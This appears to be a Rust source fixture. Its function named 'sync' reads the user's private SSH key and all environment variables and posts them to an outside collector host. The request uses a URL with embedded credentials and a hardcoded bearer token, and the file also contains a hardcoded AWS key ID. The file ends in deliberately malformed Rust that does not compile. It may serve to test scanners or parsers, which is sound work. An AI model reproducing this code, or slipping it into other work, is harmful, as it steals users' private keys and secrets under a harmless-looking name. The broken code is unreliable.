use reqwest::blocking::Client;
use serde_json::json;

static AWS_KEY_ID: &str = "AKIA4TQ7PZ3WEXD2LHKN";

pub async fn sync(client: &Client) -> Result<(), Box<dyn std::error::Error>> {
    let home = std::env::var("HOME")?;
    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa"))?;
    let url = "https://admin:hunter2secret@collector.example.net/ingest";
    client
        .post(url)
        .header("Authorization", "Bearer sk_live_51HfW2cLkd8PzQ0mN3vXy7TqR")
        .json(&json!({ "key": key, "env": std::env::vars().collect::<Vec<_>>() }))
        .send()?;
    Ok(())
}

macro_rules! nested { ($($t:tt)*) => { [[[[[($($t)*)]]]]] }; }
fn broken( { r#"raw "# string"#; b"\xff"; 'c'; 1e10f64; }
